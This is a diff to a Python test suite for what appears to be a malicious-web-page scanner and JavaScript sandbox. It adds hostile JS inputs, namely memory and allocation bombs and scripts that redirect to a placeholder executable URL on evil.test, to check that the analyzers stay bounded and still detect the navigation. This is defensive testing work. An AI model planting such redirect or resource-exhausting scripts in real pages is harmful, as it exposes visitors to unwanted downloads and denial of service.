@@ -6,10 +6,13 @@ must degrade, never crash:
 * the HTML parser accepts arbitrary bytes-as-text,
 * the SWF parser raises SwfError (only) on corrupt containers,
 * the scanners return verdicts for garbage submissions,
-* the sandbox survives hostile scripts.
+* the sandbox survives hostile scripts,
+* every JS builtin returns a JS value or throws a JS error or
+  ``BudgetExceeded``, quickly, in every engine that runs it.
 """
 
 import random
+import time
 
 import pytest
 from hypothesis import HealthCheck, given, settings, strategies as st
@@ -20,8 +23,9 @@ from repro.htmlparse import parse, serialize
 from repro.jsengine import LexError, ParseError, run_script_in_page
 from repro.jsengine.lexer import tokenize
 from repro.jsengine.parser import parse as parse_js
-from repro.staticjs import analyze_script, interpret_script
+from repro.staticjs import analyze_script, interpret_script, propagate
 
+from .test_js_differential import sandbox_page_observation, summary_page_observation
 from .test_js_parser import _at_stack_depth
 
 
@@ -132,6 +136,104 @@ class TestSandboxHostility:
             step_budget=30_000,
         )
         assert any("budget" in e.lower() for e in host.log.errors)
+
+
+#: one script per builtin that leaked a Python error or never returned,
+#: and the value layer's allocation bombs
+HOSTILE_BUILTINS = [
+    "var x = 'abc'.charAt('x'); document.write(x);",
+    "var x = Math.floor(parseInt('zz')); location.href = 'http://evil.test/a.exe';",
+    "document.write(Math.pow(-8, 1/3));",
+    "document.write(Math.sqrt(-1));",
+    "document.write(parseInt('0', 1));",
+    "document.write(Math.round(1/0));",
+    "document.write((5).toString(0));",
+    "document.write((5).toString(1));",
+    "document.write(String.fromCharCode(65, 'x'));",
+    "var a = []; a[50000000] = 1; document.write(a.length);",
+    "var a = []; a.length = 3000000000; document.write(a.length);",
+    "document.write('%s'.split('').join('%s').length);" % ("x" * 40000, "y" * 40000),
+    # JSON.stringify of 2,048 references to one 1 MB string, and of an
+    # array holding one array twice, 60 levels deep
+    "var s = 'xxxxxxxxxx'; while (s.length < 1000000) s += s; var a = [s]; "
+    "while (a.length < 2000) a = a.concat(a); document.write(JSON.stringify(a).length);",
+    "var a = [1]; for (var i = 0; i < 60; i++) a = [a, a]; document.write(JSON.stringify(a));",
+]
+_PYTHON_ERRORS = ("ValueError", "OverflowError", "ZeroDivisionError", "MemoryError")
+
+
+def _page(source):
+    return "<html><body><script>%s</script></body></html>" % source
+
+
+class TestBuiltinBounds:
+    @pytest.mark.parametrize("source", HOSTILE_BUILTINS)
+    def test_hostile_builtin_calls_are_bounded(self, source):
+        for run in (run_script_in_page, analyze_html):
+            start = time.perf_counter()
+            run(_page(source))
+            assert time.perf_counter() - start < 1.0
+        for run in (interpret_script, analyze_script, lambda text: propagate(parse_js(text))):
+            start = time.perf_counter()
+            run(source)
+            assert time.perf_counter() - start < 1.0
+        errors = run_script_in_page(_page(source)).log.errors
+        assert not [error for error in errors if error.startswith(_PYTHON_ERRORS)]
+        effects = interpret_script(source)
+        assert effects.complete
+        assert summary_page_observation(effects) == sandbox_page_observation(source)
+
+    @pytest.mark.parametrize("source, written", [
+        ("document.write(Math.pow(-8, 1/3));", "NaN"),
+        ("document.write(Math.pow(0, -1) + ' ' + Math.pow(-10, 401));", "Infinity -Infinity"),
+        ("document.write(Math.sqrt(-1));", "NaN"),
+        ("document.write(parseInt('0', 1) + ' ' + parseInt('z', 37));", "NaN NaN"),
+        ("document.write(Math.round(1/0) + ' ' + Math.floor(-1/0) + ' ' + Math.ceil(0/0));",
+         "Infinity -Infinity NaN"),
+        ("document.write(String.fromCharCode(65, 'x', 1/0) === 'A\\0\\0');", "true"),
+        ("document.write('abc'.charAt('x'));", "a"),
+        ("document.write((0/0).toString(16) + (1/0).toFixed(2));", "NaNInfinity"),
+        ("var a = [1, 'x']; document.write(JSON.stringify([a, {k: a}, 0/0]));",
+         '[[1, "x"], {"k": [1, "x"]}, null]'),
+    ])
+    def test_builtin_results_are_js_values(self, source, written):
+        assert run_script_in_page(_page(source)).log.document_writes == [written]
+
+    @pytest.mark.parametrize("coercion", [
+        "var n = parseInt(a);",
+        "var n = location.href.indexOf(a);",
+        "var b = (a == 'x');",
+        "var b = (a in {});",
+        "var o = {}; var v = o[a];",
+    ])
+    def test_unknown_array_past_the_join_bound_is_not_summarised(self, coercion):
+        # the sandbox's join refuses this array's string and ends the
+        # script; a summary computing a value would replay the navigation
+        source = ("var a = []; a.length = 1999999; a[0] = location.href; %s "
+                  "location.href = 'http://evil.test/a.exe';" % coercion)
+        assert run_script_in_page(_page(source)).log.navigations == []
+        effects = interpret_script(source)
+        assert not effects.complete
+        assert effects.abort_reason == "string-bound"
+
+    def test_nan_prelude_keeps_the_navigation(self):
+        # a Python error from Math.floor(NaN) would end the script before
+        # the navigation, in the sandbox and in the replayed summary
+        page = _page(HOSTILE_BUILTINS[1])
+        assert run_script_in_page(page).log.navigations == ["http://evil.test/a.exe"]
+        replayed = analyze_html(page)
+        assert replayed.sandbox_skipped
+        assert replayed.navigations == ["http://evil.test/a.exe"]
+
+    @pytest.mark.parametrize("source", [
+        HOSTILE_BUILTINS[0],
+        "var x = String.fromCharCode(6\n7) + '%s';" % ("x" * 50),
+    ])
+    def test_hostile_literal_pages_scan(self, source):
+        # a Python error in the folder (a NaN index) or the peeler (digits
+        # split by a line break) would end the page's scan
+        analysis = analyze_html(_page(source))
+        assert analysis.script_count == 1
 
 
 class TestStaticAnalyzerDepth:
